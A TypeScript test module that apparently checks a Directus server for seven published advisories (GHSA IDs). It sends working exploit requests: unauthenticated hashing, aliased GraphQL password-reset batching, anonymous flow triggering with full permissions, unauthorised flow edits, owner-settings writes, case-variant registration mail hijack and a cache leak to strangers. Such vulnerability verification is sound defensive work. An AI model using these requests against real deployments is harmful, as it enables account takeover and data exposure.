/** By somebody nobody knows. */
import { until } from '../until.ts';
import { aFlow, asAdmin, asAnybody } from './requests.ts';
import { harm, type Attack } from './target.ts';

const isCountedTwentyTimes = (text: string) => /"a19":/.test(text) && !/"data":null/.test(text);

export const ANONYMOUS_ATTACKS: readonly Attack[] = [
  {
    id: 'GHSA-xw72-c69j-h2rj',
    what: 'Anybody has the server hash passwords',
    async attempt(target) {
      const { status } = await asAnybody(target)('POST', '/utils/hash/generate', { string: 'x' });
      return harm(status === 200, 'a hash was worked out for a stranger');
    },
  },
  {
    id: 'GHSA-g293-vf99-xv36',
    what: 'One request asks for twenty password mails under twenty aliases',
    async attempt(target) {
      const fields = Array.from(
        { length: 20 },
        (_, at) => `a${at}: auth_password_request(email: "a@example.com")`,
      );
      const { text } = await asAnybody(target)('POST', '/graphql/system', {
        query: `mutation { ${fields.join(' ')} }`,
      });
      return harm(isCountedTwentyTimes(text), 'all twenty were answered');
    },
  },
  {
    id: 'GHSA-fq27-7m2r-q6vm',
    what: 'Anybody starts a flow that is a button in the admin app',
    async attempt(target) {
      const options = { collections: [target.open_collection], requireSelection: false, async: false };
      const changed = { project_descriptor: 'pressed by a stranger' };
      const id = await aFlow(
        target,
        { trigger: 'manual', options },
        {
          type: 'item-update',
          options: { collection: 'directus_settings', permissions: '$full', key: [1], payload: changed },
        },
      );
      await asAnybody(target)('POST', `/flows/trigger/${id}`, {
        collection: target.open_collection,
        keys: [],
      });
      const [settings] = await target.db('directus_settings').select('project_descriptor');
      await asAdmin(target)('DELETE', `/flows/${id}`);
      return harm(settings.project_descriptor === changed.project_descriptor, 'the flow ran');
    },
  },
  {
    id: 'GHSA-p623-wgx3-wxp8',
    what: 'Deleting a flow without the right to, by strangers and by staff, undoes its steps',
    async attempt(target) {
      const harms: string[] = [];
      for (const token of [null, target.app_token]) {
        const id = await aFlow(target, { trigger: 'webhook', options: {} }, { type: 'log', options: {} });
        const second = await asAdmin(target)('POST', '/operations', {
          flow: id,
          key: 'second',
          name: 'Second',
          type: 'log',
          position_x: 37,
          position_y: 1,
          options: {},
        });
        await target
          .db('directus_operations')
          .where({ flow: id, key: 'only' })
          .update({ resolve: second.data.id });
        await fetch(`${target.url}/flows/${id}`, {
          method: 'DELETE',
          headers: token ? { authorization: `Bearer ${token}` } : {},
        });
        const [first] = await target
          .db('directus_operations')
          .where({ flow: id, key: 'only' })
          .select('resolve');
        if (first.resolve === null) harms.push(token ? 'by staff' : 'by a stranger');
        await asAdmin(target)('DELETE', `/flows/${id}`);
      }
      return harm(harms.length > 0, `steps were unlinked ${harms.join(' and ')}`);
    },
  },
  {
    id: 'GHSA-6hpw-rhhq-6xq3',
    what: 'Anybody names an owner of the project, and the settings are written',
    async attempt(target) {
      const status = async () => {
        const [row] = await target.db('directus_settings').select('project_status');
        return String(row.project_status);
      };
      await target.db('directus_settings').update({ project_status: null });
      await asAnybody(target)('POST', '/settings/owner', {
        project_owner: 'a@example.com',
        project_usage: 'personal',
        org_name: 'x',
        product_updates: false,
      });
      // The report is sent behind the answer; while the network refuses it, the status is what is written.
      const after = await until(
        'the report to fail',
        async () => (await status()) !== 'null',
        target.patience_ms,
      ).catch(() => false);
      return harm(after === true, 'the status of the project was written');
    },
  },
  {
    id: 'GHSA-8xp8-xrh2-88vr',
    what: 'Registering again as VICTIM@ sends the mail of victim@ to who asks',
    async attempt(target) {
      await target.db('directus_settings').update({
        public_registration: true,
        public_registration_verify_email: true,
      });
      const register = (email: string) =>
        asAnybody(target)('POST', '/users/register', { email, password: 'tulips-on-tuesday' });
      await register('victim@example.com');
      await register('VICTIM@example.com');
      const isSent = () => target.mails().some(({ to }) => to.includes('VICTIM@example.com'));
      const is_done = await until('the second mail', isSent, target.patience_ms).catch(() => false);
      await target.db('directus_settings').update({ public_registration: false });
      return harm(is_done === true, 'the mail went where the second request said');
    },
  },
  {
    id: 'GHSA-c6w9-5g5j-jh2p',
    what: 'What the holder of a share has read, a stranger reads from the cache',
    async attempt(target) {
      const { closed_collection: collection, closed_id: item } = target;
      const me = await asAdmin(target)('GET', '/users/me?fields=role');
      const { role } = me.data as { role: string };
      const share = await asAdmin(target)('POST', '/shares', { name: 'x', collection, item, role });
      const id = String(share.data?.id ?? '');
      const login = await asAnybody(target)('POST', '/shares/auth', { share: id });
      const token = String(login.data?.access_token ?? '');
      const path = `/items/${collection}/${item}`;
      await fetch(`${target.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
      const { status } = await asAnybody(target)('GET', path);
      return harm(status === 200, 'a stranger read it');
    },
  },
];
